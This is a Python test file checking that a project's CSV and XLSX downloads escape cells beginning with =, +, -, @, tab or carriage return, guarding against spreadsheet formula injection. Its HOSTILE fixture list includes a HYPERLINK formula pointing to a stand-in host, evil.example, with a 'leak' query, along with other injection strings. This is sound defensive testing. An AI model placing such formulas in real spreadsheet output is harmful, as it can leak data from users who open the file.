"""Spreadsheet downloads never hand Excel a formula taken from data (issue 8, item 8)."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from gridgov.core.downloads import csv_lines, spreadsheet_cell, xlsx_bytes

HOSTILE = ['=HYPERLINK("http://evil.example/?leak","点击查看")', "+1+cmd", "-2+3", "@SUM(A1)"]


def read_csv(rows: list[list[object]]) -> list[list[str]]:
    text = "".join(csv_lines(rows))
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.mark.parametrize("value", [*HOSTILE, "\tcmd", "\rcmd"])
def test_a_cell_that_starts_a_formula_is_quoted_in_csv(value: str) -> None:
    assert read_csv([[value]]) == [["'" + value]]


def test_numbers_and_plain_text_are_left_alone() -> None:
    assert read_csv([[-5, 2.5, "-12.5", "+3", "张三", "a=b"]]) == [
        ["-5", "2.5", "-12.5", "+3", "张三", "a=b"]
    ]


def test_xlsx_holds_the_hostile_text_as_text_and_numbers_as_numbers() -> None:
    book = load_workbook(io.BytesIO(xlsx_bytes([[*HOSTILE, -7]])))
    cells = list(book.worksheets[0].iter_rows())[0]
    assert [c.data_type for c in cells] == ["s", "s", "s", "s", "n"]
    assert [c.value for c in cells] == ["'" + v for v in HOSTILE] + [-7]


@given(st.text())
def test_no_escaped_cell_starts_a_formula(value: str) -> None:
    escaped = spreadsheet_cell(value)
    assert isinstance(escaped, str)
    assert escaped.endswith(value)
    starts_formula = escaped.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert not starts_formula or re.fullmatch(r"[+-]\d+(\.\d+)?", escaped)
